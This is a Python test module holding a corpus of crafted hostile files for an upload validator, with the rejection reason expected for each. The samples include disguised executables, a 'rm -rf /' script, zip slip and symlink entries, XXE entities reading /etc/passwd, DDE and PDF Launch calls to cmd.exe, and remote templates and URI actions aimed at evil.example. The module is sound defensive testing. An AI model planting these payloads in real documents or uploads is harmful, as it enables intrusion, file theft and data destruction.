"""The hostile corpus: what must never get past the door, and what the person is told."""

import zipfile

from core.files.checks import Reason
from tests.core.files import builders as b

JS = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
OPEN = b"/OpenAction 10 0 R"
EXTERNAL = b'<Relationship Type="http://x/%s" Target="http://evil.example/t" TargetMode="External"/>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 200 + b"This program cannot be run in DOS mode."


def _info(name: str, **other: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    for key, value in other.items():
        setattr(info, key, value)
    return info


def _encrypted_zip() -> bytes:
    """The encryption bit set in both headers of a part."""
    data = bytearray(b.package(b.DOCX))
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _bomb() -> bytes:
    return b.package({**b.DOCX, "word/big.xml": b"\0" * 40_000_000})


def _lying_zip() -> bytes:
    """The directory says 10 bytes, the part holds a million."""
    data = bytearray(b.package({**b.DOCX, "word/lie.xml": b"x" * 1_000_000}))
    at = data.rfind(b"PK\1\2")
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def _prefixed_zip() -> bytes:
    """A package in which bytes of something else lie between two parts."""
    data = b.package(b.DOCX)
    at = data.find(b"PK\3\4", 4)
    shifted = bytearray(data[:at] + EXE + data[at:])
    second = shifted.rfind(b"PK\1\2")
    old = int.from_bytes(shifted[second + 42 : second + 46], "little")
    shifted[second + 42 : second + 46] = (old + len(EXE)).to_bytes(4, "little")
    end = shifted.rfind(b"PK\5\6")
    start = int.from_bytes(shifted[end + 16 : end + 20], "little")
    shifted[end + 16 : end + 20] = (start + len(EXE)).to_bytes(4, "little")
    return bytes(shifted)


HOSTILE: dict[str, tuple[str, bytes, Reason]] = {
    # programs, archives and pages under another name
    "windows program as pdf": ("材料.pdf", EXE, Reason.PROGRAM),
    "linux program as jpg": ("照片.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 60, Reason.PROGRAM),
    "shell script as pdf": ("a.pdf", b"#!/bin/sh\nrm -rf /\n", Reason.PROGRAM),
    "java class as png": ("a.png", b"\xca\xfe\xba\xbe\x00\x00\x00\x34", Reason.PROGRAM),
    "shortcut as docx": ("a.docx", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 60, Reason.PROGRAM),
    "rar as docx": ("a.docx", b"Rar!\x1a\x07\x01\x00", Reason.ARCHIVE),
    "7z as pdf": ("a.pdf", b"7z\xbc\xaf\x27\x1c\x00\x04", Reason.ARCHIVE),
    "gzip as pdf": ("a.pdf", b"\x1f\x8b\x08\x00", Reason.ARCHIVE),
    "plain zip as docx": ("a.docx", b.package({"readme.txt": b"hello"}), Reason.NOT_OFFICE),
    "empty zip": ("a.docx", b.package({}), Reason.ARCHIVE),
    "old word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, Reason.OLD_OFFICE),
    "old excel as xlsx": ("a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, Reason.OLD_OFFICE),
    "svg as png": ("a.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', Reason.WEB_PAGE),
    "html as pdf": ("a.pdf", b"<!DOCTYPE html><script>alert(1)</script>", Reason.WEB_PAGE),
    "html in utf-16": ("a.pdf", "<html><script>".encode("utf-16"), Reason.WEB_PAGE),
    "html behind blanks": ("a.jpg", b"\n" * 900 + b"<html>", Reason.WEB_PAGE),
    "gif": ("a.png", b"GIF89a" + b"\0" * 20, Reason.OTHER_IMAGE),
    "phone video": ("a.jpg", b"\0\0\0\x18ftypmp42" + b"\0" * 40, Reason.OTHER_IMAGE),
    "nothing at all": ("a.pdf", b"", Reason.EMPTY),
    "random bytes": ("a.pdf", bytes(range(5, 250)) * 5, Reason.UNKNOWN),
    # names
    "pdf called exe": ("材料.pdf.exe", b.pdf(), Reason.OTHER_NAME),
    "png called pdf": ("a.pdf", b.png(), Reason.OTHER_NAME),
    "xlsx called docx": ("a.docx", b.package(b.XLSX), Reason.OTHER_NAME),
    "turned name": ("材料\u202efdp.exe", b.pdf(), Reason.OTHER_NAME),
    "no ending": ("材料", b.pdf(), Reason.OTHER_NAME),
    # PDF
    "pdf with password": (
        "a.pdf",
        b.pdf(b"<< /Filter /Standard >>", trailer=b"/Encrypt 10 0 R"),
        Reason.PDF_ENCRYPTED,
    ),
    "pdf with inline password": (
        "a.pdf",
        b.pdf(trailer=b"/Encrypt << /Filter /Standard >>"),
        Reason.PDF_ENCRYPTED,
    ),
    "pdf with script on opening": ("a.pdf", b.pdf(JS, catalog=OPEN), Reason.PDF_ACTIVE),
    "pdf with script in the name tree": (
        "a.pdf",
        b.pdf(JS, catalog=b"/Names << /JavaScript << /Names [(x) 10 0 R] >> >>"),
        Reason.PDF_ACTIVE,
    ),
    "pdf with script spelled in hex": (
        "a.pdf",
        b.pdf(b"<< /S /J#61v#61Script /JS (x) >>", catalog=OPEN),
        Reason.PDF_ACTIVE,
    ),
    "pdf with script in an object stream": ("a.pdf", b.pdf(b.object_stream({50: JS})), Reason.PDF_ACTIVE),
    "pdf with script in an untyped object stream": (
        "a.pdf",
        b.pdf(b.object_stream({50: JS}, head=b"/Type 77 0 R")),
        Reason.PDF_ACTIVE,
    ),
    "pdf with script in a stream behind a comment": (
        "a.pdf",
        b.pdf(b.object_stream({50: JS}).replace(b">>\nstream", b">> %x\nstream")),
        Reason.PDF_ACTIVE,
    ),
    "pdf that launches": ("a.pdf", b.pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=OPEN), Reason.PDF_ACTIVE),
    "pdf that opens an address": (
        "a.pdf",
        b.pdf(b"<< /S /URI /URI (http://evil.example) >>", catalog=OPEN),
        Reason.PDF_ACTIVE,
    ),
    "pdf with an opening action inside": (
        "a.pdf",
        b.pdf(catalog=b"/OpenAction << /S /URI /URI (http://evil.example) >>"),
        Reason.PDF_ACTIVE,
    ),
    "pdf that sends forms": (
        "a.pdf",
        b.pdf(b"<< /S /SubmitForm /F (http://e.example) >>"),
        Reason.PDF_ACTIVE,
    ),
    "pdf with xfa": ("a.pdf", b.pdf(catalog=b"/AcroForm << /XFA 10 0 R >>"), Reason.PDF_ACTIVE),
    "pdf with film": ("a.pdf", b.pdf(b"<< /Type /Annot /Subtype /RichMedia >>"), Reason.PDF_ACTIVE),
    "pdf with attachment": ("a.pdf", b.pdf(b.stream(EXE, b"/Type /EmbeddedFile")), Reason.PDF_ATTACHMENT),
    "pdf with many opening actions": ("a.pdf", b.pdf(b"/OpenAction [1] " * 50), Reason.PDF_ODD),
    "pdf with an oddly coded object stream": (
        "a.pdf",
        b.pdf(b"<< /Type /ObjStm /N 1 /First 5 /Filter /LZWDecode /Length 3 >>\nstream\nabc\nendstream"),
        Reason.PDF_ODD,
    ),
    "pdf bomb": ("a.pdf", b.pdf(b.object_stream({50: b" " * 80_000_000})), Reason.BOMB),
    "pdf cut short": ("a.pdf", b.pdf()[:-60], Reason.BROKEN),
    "pdf head only": ("a.pdf", b"%PDF-1.7\n", Reason.BROKEN),
    "pdf without pages": ("a.pdf", b.pdf(pages=0), Reason.BROKEN),
    "pdf and zip": ("a.pdf", b.pdf() + b.package(b.DOCX), Reason.POLYGLOT),
    "pdf and page": ("a.pdf", b.pdf() + b"<html><script>x</script>", Reason.POLYGLOT),
    "page before pdf": ("a.pdf", b"GG" + b.pdf(), Reason.PDF_PREFIX),
    "page inside the head of a pdf": (
        "a.pdf",
        b.pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%<script>x</script>"),
        Reason.POLYGLOT,
    ),
    # zip packages
    "zip bomb": ("a.docx", _bomb(), Reason.BOMB),
    "zip bomb of overlapping parts": ("a.docx", b.overlapping_zip(), Reason.BOMB),
    "zip with thousands of parts": (
        "a.docx",
        b.package({**b.DOCX, **{f"word/{n}.xml": b"" for n in range(4100)}}),
        Reason.BOMB,
    ),
    "zip that lies about its size": ("a.docx", _lying_zip(), Reason.BROKEN),
    "zip slip": ("a.docx", b.package({**b.DOCX, "../../etc/cron.d/x": b"x"}), Reason.ZIP_ODD),
    "zip with an absolute name": ("a.docx", b.package({**b.DOCX, "/etc/x": b"x"}), Reason.ZIP_ODD),
    "zip with a drive": ("a.docx", b.package({**b.DOCX, "C:/x.xml": b"x"}), Reason.ZIP_ODD),
    "zip with a link": (
        "a.docx",
        b.package(b.DOCX, (_info("word/link", external_attr=0o120777 << 16), b"/etc/passwd")),
        Reason.ZIP_ODD,
    ),
    "zip with two parts of one name": (
        "a.docx",
        b.package({**b.DOCX, "Word/Document.xml": b"<other/>"}),
        Reason.ZIP_ODD,
    ),
    "zip with an unusual method": (
        "a.docx",
        b.package(b.DOCX, (_info("word/x.xml", compress_type=zipfile.ZIP_LZMA), b"x")),
        Reason.ZIP_ODD,
    ),
    "zip with a long comment": ("a.docx", b.package(b.DOCX, comment=b"<script>" * 20), Reason.ZIP_ODD),
    "zip with a password": ("a.docx", _encrypted_zip(), Reason.ZIP_ENCRYPTED),
    "zip with a program between its parts": ("a.docx", _prefixed_zip(), Reason.POLYGLOT),
    "zip cut short": ("a.docx", b.package(b.DOCX)[:-10], Reason.BROKEN),
    "docx with macros": ("a.docx", b.package({**b.DOCX, "word/vbaProject.bin": b"x"}), Reason.MACRO),
    "docx of the macro type": (
        "a.docx",
        b.package(
            {
                **b.DOCX,
                "[Content_Types].xml": b.TYPES % b"application/vnd.ms-word.document.macroEnabled.main+xml",
            }
        ),
        Reason.MACRO,
    ),
    "docx with a control": ("a.docx", b.package({**b.DOCX, "word/activeX/activeX1.xml": b"x"}), Reason.MACRO),
    "docx with a program inside": ("a.docx", b.package({**b.DOCX, "word/media/x.exe": EXE}), Reason.MACRO),
    "docx with an embedded object": (
        "a.docx",
        b.package({**b.DOCX, "word/embeddings/oleObject1.bin": b"x"}),
        Reason.EMBEDDED,
    ),
    "docx with an outside template": (
        "a.docx",
        b.package({**b.DOCX, "word/_rels/settings.xml.rels": b.relations(EXTERNAL % b"attachedTemplate")}),
        Reason.EXTERNAL,
    ),
    "docx with an outside frame": (
        "a.docx",
        b.package({**b.DOCX, "word/_rels/document.xml.rels": b.relations(EXTERNAL % b"frame")}),
        Reason.EXTERNAL,
    ),
    "docx with dde": (
        "a.docx",
        b.package({**b.DOCX, "word/x.xml": b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}),
        Reason.EXTERNAL,
    ),
    "xlsx with dde": (
        "a.xlsx",
        b.package({**b.XLSX, "xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd'/>"}),
        Reason.EXTERNAL,
    ),
    "docx with an entity": (
        "a.docx",
        b.package(
            {**b.DOCX, "word/x.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}
        ),
        Reason.ENTITY,
    ),
    "docx with an entity in utf-16": (
        "a.docx",
        b.package({**b.DOCX, "word/x.xml": '<!DOCTYPE x [<!ENTITY e "e">]>'.encode("utf-16")}),
        Reason.ENTITY,
    ),
    "docx with an entity far behind": (
        "a.docx",
        b.package({**b.DOCX, "word/x.xml": b"<!--" + b"a" * 262_140 + b"--><!DOCTYPE x>"}),
        Reason.ENTITY,
    ),
    "ofd with an entity": (
        "a.ofd",
        b.package({**b.OFD, "OFD.xml": b"<!DOCTYPE x><ofd:OFD/>"}),
        Reason.ENTITY,
    ),
    # pictures
    "png of a hundred thousand by a hundred thousand": (
        "a.png",
        b.flood_png(100_000, 100_000),
        Reason.PIXELS,
    ),
    "png of a thin strip": ("a.png", b.flood_png(1, 4_000_000), Reason.PIXELS),
    "jpeg of sixty thousand by sixty thousand": ("a.jpg", b.flood_jpeg(60_000, 60_000), Reason.PIXELS),
    "jpeg of no width": ("a.jpg", b.flood_jpeg(0, 10), Reason.BROKEN),
    "png cut short": ("a.png", b.png()[:-20], Reason.BROKEN),
    "png with a wrong checksum": ("a.png", b.png()[:29] + b"\0\0\0\0" + b.png()[33:], Reason.BROKEN),
    "png with an unknown necessary chunk": (
        "a.png",
        b.png()[:33] + b.chunk(b"EVIL", b"x") + b.png()[33:],
        Reason.BROKEN,
    ),
    "jpeg cut short": ("a.jpg", b.jpeg()[:-30], Reason.BROKEN),
    "jpeg head only": ("a.jpg", b"\xff\xd8\xff", Reason.BROKEN),
    "jpeg without a frame": ("a.jpg", b"\xff\xd8\xff\xda\x00\x02\xff\xd9", Reason.BROKEN),
    "jpeg and zip": ("a.jpg", b.jpeg() + b.package(b.DOCX), Reason.POLYGLOT),
    "jpeg and page": ("a.jpg", b.jpeg() + b"<html><script>x</script></html>", Reason.POLYGLOT),
    "jpeg with a page in its comment": (
        "a.jpg",
        b.jpeg()[:2] + b"\xff\xfe\x00\x22<script>alert(document.domain)" + b.jpeg()[2:],
        Reason.POLYGLOT,
    ),
    "png and pdf": ("a.png", b.png() + b.pdf(), Reason.POLYGLOT),
    "png and program": ("a.png", b.png() + EXE, Reason.POLYGLOT),
}
